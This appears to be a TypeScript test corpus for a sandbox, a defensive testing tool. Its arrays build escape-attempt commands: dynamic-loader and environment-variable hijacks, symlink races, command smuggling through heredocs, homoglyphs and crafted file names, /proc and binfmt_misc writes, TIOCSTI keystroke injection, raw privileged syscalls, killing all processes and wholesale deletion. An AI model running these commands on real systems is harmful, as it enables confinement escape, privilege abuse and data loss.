    `LD_PRELOAD=${out}/secret ls; LD_LIBRARY_PATH=${out} ls; LD_AUDIT=${out}/secret ls; LD_DEBUG=files LD_DEBUG_OUTPUT=${out}/ld ls; LD_PROFILE=libc.so.6 LD_PROFILE_OUTPUT=${out} ls; LD_TRACE_LOADED_OBJECTS=1 ls; GCONV_PATH=${out} iconv -t X < /dev/null; LOCPATH=${out} LC_ALL=x ls; NLSPATH=${out}/secret ls; MALLOC_TRACE=${out}/mt ls; GLIBC_TUNABLES=glibc.malloc.check=3 ls; HOSTALIASES=${out}/secret getent hosts x; RES_OPTIONS=x getent hosts x; TZ=${out}/secret date; TZDIR=${out} TZ=secret date; RESOLV_ADD_TRIM_DOMAINS=x ls; TMPDIR=${out} mktemp; OPENSSL_MODULES=${out} openssl list -providers; SSLKEYLOGFILE=${out}/k curl -m1 x; CURL_HOME=${out} curl x; WGETRC=${out}/secret wget x; ZIPOPT=-T zip x; XZ_OPT=-k xz ${out}/target; GREP_OPTIONS=-r grep x; TAR_OPTIONS=-C${out} tar -cf x .; MALLOC_PERTURB_=1 ls`,
  ({ out }) =>
    `cat <<E > ${out}/pwned\nx\nE\ncat <<'E' >> ${out}/target\nx\nE\ncat 3<<A 4<<B <&3\n$(touch ${out}/pwned)\nA\nx\nB`,
  ({ out }) => `cat <<"$(touch ${out}/pwned)"\nx\n$(touch ${out}/pwned)\n. ${out}/secret`,
  ({ out }) =>
    `ls \u2028touch ${out}/pwned; ls\u3000-l; \u200btouch ${out}/pwned; touch\u200b ${out}/pwned; t\u043euch ${out}/pwned; \uff54ouch ${out}/pwned; ls\u00a0; touch\u2003${out}/pwned`,
];

/** Changing links, names with line ends, pipes and sockets as files. */
const RACES: readonly Make[] = [
  ({ out }) =>
    `(while :; do ln -sfn ${out} r; ln -sfn src r; done) & for i in $(seq 200); do cp src/a.txt r/pwned; cat r/secret; done 2> /dev/null; kill %1`,
  ({ out }) =>
    `mkdir -p rr; (while :; do mv rr rx; ln -s ${out} rr; rm rr; mv rx rr; done 2> /dev/null) & for i in $(seq 200); do touch rr/pwned; rm -f rr/target; done 2> /dev/null; kill %1`,
  ({ out }) =>
    `python3 -c 'import os, threading as t; e = t.Event(); t.Thread(target=lambda: [(os.symlink("${out}", "q"), os.unlink("q")) for _ in range(3000) if not e.is_set()], daemon=True).start(); [os.path.exists("q/secret") and print(open("q/secret").read()) for _ in range(3000)]'`,
  () => `(sleep 0.3; mkdir -p late/.git; touch .envrc late/.npmrc) > /dev/null 2>&1 & disown; exit 0`,
  ({ out }) => `for i in $(seq 40); do (ln -sfn ${out} "z$i"; mkdir -p "y$i/.git" "y$i/.husky") & done; wait`,
  ({ out }) =>
    `ln ${out}/target h1; ln -P ${out}/secret h2; ln -L way/secret h3; link ${out}/target h4; cat h2 h3; echo x > h1; echo x > h4; ln .vscode/tasks.json h5; echo x > h5`,
  ({ out }) =>
    `mkdir $'n\\n--bind\\n${out}\\n${out}'; mkdir -p $'--ro-bind / /x/.git'; touch $'n\\n--bind\\n${out}\\n${out}/.envrc'; ln -s ${out} $'a\\n/b'; touch $'a\\n/b/pwned'`,
  () =>
    `mkdir -p $'e\\x01\\x7f/.git' $'e\\\\x/.git' $'e"x/.git' "e'x/.git" 'e$(x)/.git' $'e\\tx/.husky' 'e*/.git' 'e /.git' $'\\xff/.git' $'e\\r/.vscode'`,
  () =>
    `mkdir -p .git\\ /x .git./x ..git/x .GIT/x; mv .git .git2; mv -T .husky .husky2; rm -rf .git .husky .vscode node_modules; cp -r .git .git3; ln -s .git g9; echo x > g9/config`,
  () =>
    `mkfifo f1; (echo x > f1 &) ; timeout 0.3 cat f1; mkfifo -m 777 f2; chmod u+s f2; mknod f3 p; mknod f4 c 1 3; mknod f5 b 8 0; mknod -m 666 f6 c 10 200`,
  () =>
    `python3 -c 'import os, stat; os.mknod("f7", stat.S_IFSOCK | 0o777); os.mknod("f8", stat.S_IFIFO | 0o2777)'; python3 -c 'import socket as s; s.socket(s.AF_UNIX).bind("f9")'`,
  () =>
    `echo x > pipe; echo x >> ./pipe; tee pipe < src/a.txt; cp --remove-destination src/a.txt p2; cp src/a.txt pipe`,
  () =>
    `head -c 9 feed; exec 3<> feed; read -t 0.2 -n 5 x <&3; echo "$x"; mv feed feed2; head -c 9 feed2; ln feed feed3; timeout 0.2 cat feed3 ./*`,
  () =>
    `mkdir d9; mv pipe d9/p; echo x > d9/p; ln pipe d9/q; echo x > d9/q; ln -s ../pipe d9/r; echo x > d9/r; python3 -c 'import os; os.write(os.open("pipe", os.O_WRONLY | os.O_NONBLOCK), b"x")'`,
  ({ cwd }) =>
    `echo x > /proc/self/cwd/pipe; echo x > /proc/self/root${cwd}/pipe; umount pipe; rm -f pipe; unlink pipe; echo x > ${cwd}/pipe; mv ${cwd}/pipe /tmp/p; echo x > /tmp/p; cp -a pipe p5; echo x <> p5`,
  ({ out }) =>
    `python3 -c 'import socket as s; x = s.socket(s.AF_UNIX, s.SOCK_SEQPACKET); x.connect("${out}/socket")'; python3 -c 'import socket as s; x = s.fromfd(0, s.AF_UNIX, s.SOCK_STREAM); x.send(b"x")'; ncat -U ${out}/socket; socat - UNIX-CONNECT:${out}/socket; curl --unix-socket way/socket x; ssh -o ControlPath=${out}/socket x`,
  () =>
    `chmod 000 src; chmod 000 libs; mkdir -p lock/.git; chmod 000 lock; chattr +i src/a.txt; setfattr -n user.x -v y .git; setfacl -m u:1:rwx .; chown 1:1 src/a.txt; chgrp 1 src; touch -h link; touch -h way; chmod -h 777 link`,
  () =>
    `rm -rf ./* ./.[a-z]* 2> /dev/null; mkdir .git; echo x > .git/config; mkdir -p .vscode; echo x > .vscode/tasks.json; ls -la`,
  () =>
    `mv ../cwd ../cwd2; rmdir ../cwd; rm -rf "$PWD"; mkdir -p ../cwd3; cd ..; touch x; mv cwd cwd4; ln -s out cwd`,
];

/** Devices, /proc, and calls of the kernel. */
const KERNEL: readonly Make[] = [
  ({ out }) =>
    `cat /proc/self/root${out}/secret /proc/self/cwd/../out/secret /proc/self/fd/../root${out}/secret /proc/1/task/1/root${out}/secret /proc/self/ns/../root${out}/secret`,
  () =>
    `for f in /proc/1/fd/* /proc/1/fdinfo/* /proc/1/map_files/* /proc/1/ns/*; do readlink $f; head -c 99 $f; done 2> /dev/null; cat /proc/1/comm /proc/1/wchan /proc/1/syscall /proc/1/io /proc/1/limits`,
  () =>
    `echo 1 > /proc/1/clear_refs; echo 0 > /proc/1/coredump_filter; echo x > /proc/1/comm; echo x > /proc/self/comm; echo 0 > /proc/self/loginuid; echo 0 > /proc/self/sched; echo exec x > /proc/self/attr/current; echo + > /proc/self/timerslack_ns; echo 0 0 1 > /proc/self/gid_map; echo 0 > /proc/self/autogroup; echo 1 > /proc/self/make-it-fail`,
  () =>
    `ls /proc/sys/fs/binfmt_misc; echo ':x:M::x::/bin/sh:' > /proc/sys/fs/binfmt_misc/register; echo x > /proc/sys/kernel/modprobe.none; echo x > /proc/sys/kernel/hotplug.none; cat /proc/sys/kernel/random/uuid > /dev/null; cat /proc/keys /proc/key-users /proc/timer_list /proc/slabinfo /proc/vmallocinfo /proc/kpagecount /proc/iomem /proc/kcore 2> /dev/null | head -c 200`,
  () =>
    `exec 8<> /dev/tty; echo x >&8; exec 9<> /dev/ptmx; ls /dev/pts; echo x > /dev/pts/0; echo x > /dev/pts/1; python3 -c 'import os, fcntl, termios; m, s = os.openpty(); fcntl.ioctl(s, termios.TIOCSTI, b"x"); fcntl.ioctl(s, termios.TIOCSCTTY, 1)'; python3 -c 'import fcntl; fcntl.ioctl(0, 0x5423, b"\\x01\\0\\0\\0")'`,
  () =>
    `python3 -c 'import fcntl; f = open("src/a.txt"); fcntl.ioctl(f, 0x40086602, b"\\x10\\0\\0\\0\\0\\0\\0\\0"); fcntl.ioctl(f, 0x40046629, b"\\0" * 64)'; python3 -c 'import fcntl, os; d = os.open(".", 0); fcntl.ioctl(d, 0xc0185879, bytes(24))'; python3 -c 'import fcntl; fcntl.ioctl(open("/"), 0xc0045877, 0); fcntl.ioctl(open("."), 0xc0045877, 0)'`,
  ({ out }) =>
    call(
      `[L.syscall(n, b"${out}/target", b"${out}/moved", 0) for n in (82, 264, 316)], [L.syscall(n, -100, b"${out}/target", 0) for n in (263, 268, 257)]`,
    ),
  ({ out }) =>
    call(
      `L.syscall(259, -100, b"${out}/pwned", 0o100644, 0), L.syscall(258, -100, b"${out}/pwned2", 0o777), L.syscall(266, b"${out}", -100, b"kl"), L.syscall(83, b"${out}/pwned3", 0o777), L.syscall(84, b"${out}/home"), L.syscall(87, b"${out}/target")`,
    ),
  ({ out }) =>
    call(
      `L.syscall(437, -100, b"${out}/secret", (c.c_uint64 * 3)(0, 0, 0), 24), L.syscall(437, -100, b"${out}/pwned", (c.c_uint64 * 3)(0o102, 0o644, 0), 24)`,
    ),
  () =>
    call(`[L.syscall(425, 8, b"\\0" * 120), L.syscall(426, 3, 1, 1, 1, 0, 0), L.syscall(427, 3, 0, 0, 0)]`),
  () => call(`[L.syscall(323, f) for f in (0, 1, 2048, 524288)], L.syscall(16, 3, 0xc018aa3f, 0)`),
  () =>
    call(
      `[L.syscall(250, o, k, 0, 0, 0) for o in (0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 15, 17, 21, 22, 29, 30) for k in (-1, -2, -3, -4, -5)]`,
    ),
  () =>
    call(
      `L.syscall(248, b"user", b"x", b"y", 1, -3), L.syscall(248, b"logon", b"x:y", b"z", 1, -4), L.syscall(249, b"user", b"x", b"y", -3), L.syscall(249, b"asymmetric", b"x", 0, -3)`,
    ),
  ({ victim }) =>
    call(
      `[L.syscall(101, r, ${victim}, 0, 0) for r in (0, 16, 0x4206, 0x4207)], L.syscall(310, ${victim}, 0, 0, 0, 0, 0), L.syscall(311, ${victim}, 0, 0, 0, 0, 0), L.syscall(440, -1, 0, 0, 0, 0)`,
    ),
  ({ victim }) =>
    call(
      `[L.syscall(434, p, 0) for p in (1, ${victim}, os.getppid())], [L.syscall(424, d, 9, 0, 0) for d in range(3, 9)], [L.syscall(438, d, 0, 0) for d in range(3, 9)], L.syscall(448, 3, 0)`,
    ),
  ({ victim }) =>
    call(
      `[L.syscall(n, ${victim}, 9) for n in (62, 200)], L.syscall(129, ${victim}, 9, b"\\0" * 128), L.syscall(297, ${victim}, ${victim}, 9, b"\\0" * 128), L.syscall(234, ${victim}, ${victim}, 9), L.kill(-1, 9)`,
    ),
  () =>
    call(
      `[L.syscall(272, 1 << b) for b in range(7, 32)], [L.syscall(308, os.open("/proc/self/ns/" + n, 0), 0) for n in os.listdir("/proc/self/ns")], [L.syscall(308, d, 0x7e020080) for d in range(9)]`,
    ),
  () =>
    call(
      `[L.syscall(56, (1 << b) | 17, 0, 0, 0, 0) for b in (17, 25, 26, 27, 28, 29, 30)], L.syscall(435, (c.c_uint64 * 11)(0x10000000), 88), L.syscall(58), 1`,
    ),
  () =>
    call(
      `[L.syscall(165, b"none", b"/tmp", b"tmpfs", f, 0) for f in (0, 32, 4096, 0x44000)], L.syscall(166, b"/tmp", 2), L.syscall(155, b".", b"."), L.syscall(161, b"."), L.syscall(429, -100, b"/", -100, b"/tmp", 0)`,
    ),
  () =>
    call(
      `[L.syscall(n, -100, b"/", 0x8001, 0, 0) for n in (428, 430, 431, 432, 433, 442, 467)], L.syscall(457, b"\\0" * 24, b"\\0" * 512, 512, 0), L.syscall(458, b"\\0" * 24, b"\\0" * 64, 8, 0)`,
    ),
  () =>
    call(
      `[L.syscall(0x40000000 + n, b"src/a.txt", 0o4755) for n in (2, 56, 57, 90, 91, 101, 165, 257, 268, 308, 520, 521)], [L.syscall(512 + n, 0, 0, 0) for n in range(40)]`,
    ),
  () =>
    call(
      `[(lambda f: [os.write(f, b"x" * 99), L.syscall(322, f, b"", (P * 1)(), (P * 1)(), 0x1000)])(L.syscall(319, b"m", fl)) for fl in (0, 1, 2, 3, 4, 16)], L.syscall(447, 0)`,
    ),
  ({ out }) =>
    call(
      `(lambda f: [os.write(f, b"#!/bin/sh\\ntouch ${out}/pwned\\n"), os.execve("/proc/self/fd/%d" % f, ["x"], {})])(os.memfd_create("x", 0))`,
    ),
  ({ out }) =>
    call(
      `[L.syscall(n, -100, b"${out}/target", 256, 0) for n in (254, 301)], L.syscall(253), L.syscall(294, 0), L.syscall(300, 0, 0), os.readlink("${out}/../cwd/link")`,
    ),
  ({ out }) =>
    call(
      `[L.syscall(n, b"${out}/target", b"user.x", b"1", 1, 0) for n in (188, 189, 197, 198)], [L.syscall(n, b".git/config", b"user.x", b"1", 1, 0) for n in (188, 189, 197)], L.syscall(463, -100, b".git/config", 0, b"user.y", (c.c_uint64 * 2)(0, 1), 16)`,
    ),
  () =>
    call(
      `[L.syscall(41, f, t, 0) for f in range(46) for t in (1, 2, 3, 5) if f not in (2, 10, 16)], [L.syscall(41, 16, 3, p) for p in range(1, 23)], [L.syscall(53, f, 1, 0, (c.c_int * 2)()) for f in (2, 16, 38, 40)]`,
    ),
  () =>
    call(
      `[L.syscall(41, f | 1 << 32, 1, 0) for f in (1, 40)], [L.syscall(41, c.c_long(f), c.c_long(1), c.c_long(0)) for f in (1 - (1 << 32), 40 + (7 << 32))]`,
    ),
  () =>
    call(
      `[L.syscall(90, b"src/a.txt", c.c_long(m)) for m in (0o4755 + (1 << 32), 0o2755, 0o6000)], L.syscall(452, -100, b"src/a.txt", 0o4755, 0), L.syscall(268, -100, b"src/a.txt", c.c_long(0o4755 | 1 << 40))`,
    ),
  () =>
    call(
      `[L.syscall(16, 1, c.c_long(0x5412 + (1 << 32)), b"x"), L.syscall(16, 0, 0x5412, b"x"), L.syscall(16, 0, 0x541c, b"\\3"), L.syscall(16, 0, 0x541d, 0), L.syscall(16, 1, 0x4b4e, 1), L.syscall(16, 1, 0x5606, 1)]`,
    ),
  () =>
    call(
      `[L.syscall(135, p) for p in (8, 0x400000, 0x8000000, 0x40000 | 0x400000)], [L.syscall(157, o, 1, 0, 0, 0) for o in (4, 8, 15, 22, 24, 27, 28, 34, 35, 36, 38, 47, 53, 59, 0x59616d61)]`,
    ),
  () =>
    call(
      `[L.syscall(n, 0, 0, 0, 0) for n in (103, 134, 136, 139, 153, 154, 156, 163, 164, 167, 168, 169, 170, 171, 172, 173, 174, 175, 176, 177, 178, 179, 180, 212, 227, 236, 246, 298, 305, 313, 320, 321, 443)]`,
    ),
  () =>
    call(
      `[L.syscall(n, 1, 1, 1) for n in (29, 64, 68, 240)], L.syscall(141, 2, 0, -20), L.syscall(203, 1, 8, b"\\1" + b"\\0" * 7), L.syscall(251, 1, 1, 0), L.syscall(302, 1, 7, (c.c_uint64 * 2)(9, 9), 0), L.syscall(314, 1, b"\\0" * 48, 0)`,
    ),
  () =>
    call(
      `(lambda m: [m.write(b"x"), L.syscall(278, 1, 0, 1, 0), L.syscall(275, 0, 0, 1, 0, 9, 0), L.syscall(276, 0, 1, 9, 0), L.syscall(40, 1, 0, 0, 9), L.syscall(326, 0, 0, 1, 0, 9, 0)])(mmap.mmap(-1, 4096))`,
    ),
  ({ out }) =>
    call(
      `(lambda f: [mmap.mmap(f, 8, mmap.MAP_PRIVATE).write(b"x"), L.syscall(77, f, 0), L.syscall(285, f, 3, 0, 4), L.syscall(18, f, b"x", 1, 0), L.syscall(20, f, 0, 1), L.syscall(72, f, 1024, 1), L.syscall(72, f, 1026, 1), L.syscall(73, f, 6)])(os.open("src/a.txt", 0)), os.open("${out}/target", 2)`,
    ),
];

/** Each line is in the corpus once, as it stands. */
export const RARE_LINES: readonly Make[] = [
  ...GIT,
  ...BUILDS,
  ...ARCHIVES,
  ...EDITORS,
  ...APPLETS,
  ...SHELLS,
  ...RACES,
  ...KERNEL,
];
